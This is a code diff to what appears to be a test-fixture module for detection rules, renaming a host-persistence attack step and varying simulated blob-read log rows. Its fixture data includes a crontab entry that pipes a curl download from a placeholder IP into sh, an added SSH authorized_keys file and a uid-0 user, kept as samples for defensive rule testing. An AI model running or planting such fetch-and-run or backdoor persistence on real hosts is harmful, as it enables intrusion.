@@ -52,7 +52,7 @@ def _objects(count: int) -> Iterator[Row]:
 def _blobs(count: int) -> Iterator[Row]:
     for number in range(count):
         yield {
-            "category": "StorageRead", "operationName": "GetBlob", "statusCode": 200,
+            "category": "StorageRead", "operationName": ("GetBlob", "GetFile")[number % 2], "statusCode": 200,
             "callerIpAddress": f"{THIEF}:4{number}12", "identity": {"type": "OAuth", "requester": {"upn": "eve"}},
             "uri": f"https://ml-models.blob.core.windows.net/m/{number}.onnx",
             "resourceId": "/subscriptions/s/resourceGroups/ml/providers/Microsoft.Storage/storageAccounts/ml-models",
@@ -71,7 +71,7 @@ def _stated(statement: str, severity: str = "LOG") -> Row:
     }  # fmt: skip
 
 
-def _grown(table: str, action: str = "added", **columns: str) -> Row:
+def _added(table: str, action: str = "added", **columns: str) -> Row:
     return {
         "name": f"pack_incident_{table}", "hostIdentifier": HOST, "unixTime": None, "action": action,
         "columns": columns or {"key_file": "/root/.ssh/authorized_keys"},
@@ -143,17 +143,17 @@ SERVED: Final = AttackStep(
     ),
 )
 
-GROWN: Final = AttackStep(
+ADDED: Final = AttackStep(
     "a key or a task new on a host",
     (
-        (_grown("authorized_keys"),),
-        (_grown("crontab", command="curl http://198.51.100.9/x | sh"),),
-        (_grown("users", uid="0", username="eve"),),
+        (_added("authorized_keys"),),
+        (_added("crontab", command="curl http://198.51.100.9/x | sh"),),
+        (_added("users", uid="0", username="eve"),),
     ),
     (
-        (_grown("authorized_keys", "removed"),),
-        (_grown("users", uid="1004", username="ada"),),
-        (_grown("deb_packages", name="vim"),),
+        (_added("authorized_keys", "removed"),),
+        (_added("users", uid="1004", username="ada"),),
+        (_added("deb_packages", name="vim"),),
     ),
 )
 
@@ -177,7 +177,7 @@ STEPS: Final = {
     "workload_escapes": ESCAPE,
     "training_rows_edited": EDITED,
     "model_file_served": SERVED,
-    "host_table_grew": GROWN,
+    "host_inventory_persistence": ADDED,
     "model_file_replaced": REPLACED,
 }
 """By the rule's name."""
